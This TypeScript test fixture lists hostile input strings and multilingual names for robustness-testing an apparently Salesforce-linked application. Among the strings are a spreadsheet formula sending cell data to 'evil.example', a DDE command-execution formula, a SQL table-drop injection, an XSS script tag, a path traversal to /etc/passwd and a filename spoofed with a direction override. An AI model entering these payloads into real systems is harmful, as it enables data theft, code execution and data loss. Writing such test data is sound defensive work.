/** Texts that careless programs cut, obey, parse or mend. None is longer than a state of Salesforce holds. */
export const hostileTexts: readonly string[] = [
  '😀👩‍👩‍👧‍👦🏳️‍🌈 party 🎉',
  'محمد\u200f (عاجل) بن سلمان',
  'שָׁלוֹם 00123',
  '\u202Egnp.exe\u202C',
  'Zoë\u0301\u0302\u0303 stacked',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  "'quoted already",
  '<script>alert(1)</script><!--',
  "Robert'); DROP TABLE Contact;--",
  '{{7*7}} $(7*7) %s %n %00 \\u0041 \\N',
  'tab\there and\nnew line',
  'bell\u0007 escape\u001b[31mred\u007f\u0085',
  '"quoted, ""twice"" and; semicolon"',
  '000123',
  '1E5',
  '2026-01-02',
  'TRUE',
  'null',
  '__proto__',
  '../../etc/passwd',
  'zero\u200bwidth\ufeffmark\u2028line',
]

/** Names of people as their bearers write them, one for each text. */
export const names: readonly (readonly [first: string, last: string])[] = [
  ['محمد', 'بن سلمان الفيصل'],
  ['שרה', 'בן־דוד'],
  ['😀 Zoë', 'Emojidóttir 🎉'],
  ['Ngọc', 'Nguyễn-Phương'],
  ['Παναγιώτα', 'Οικονομοπούλου'],
  ['Владислав', 'Щербаков'],
  ['さくら', '高橋健太郎'],
  ['Łucja', "O'Żółkiewska"],
  ['Jean "Jojo"', 'D’Artagnan; Fils'],
  ['=Anna', '+Bergström'],
  ['@home', '-Kowalczykova'],
  ['<b>Bold</b>', '<Müllerhoff>'],
  ['Null', 'Nullmeyer'],
  ['True', 'Undefinedsson'],
  ['__proto__', 'Constructorakis'],
  ['José\u0301', 'Ibáñez y Gómez'],
  ['Þórður', 'Æsgeirsson'],
  ['I\u0307brahim', 'Yıldırımoğlu'],
  ['Trúc\tLinh', 'Vương\u00a0Thị'],
  ['\u202AAhmad\u202C', 'El‑Ghazzawy'],
  ['Siobhán', 'Ní Dhuibhgeannáin'],
  ['00700', 'Bondarchuk 007'],
  ['Xiǎo\u200dmíng', 'Ouyangfeng'],
  ['Björk', 'Guðmundsdóttir \\ %s'],
]

export function textOf(length: number): string {
  return '0123 é😀"\n;\t'
    .repeat(Math.ceil(length / 12))
    .slice(0, length)
    .toWellFormed()
}
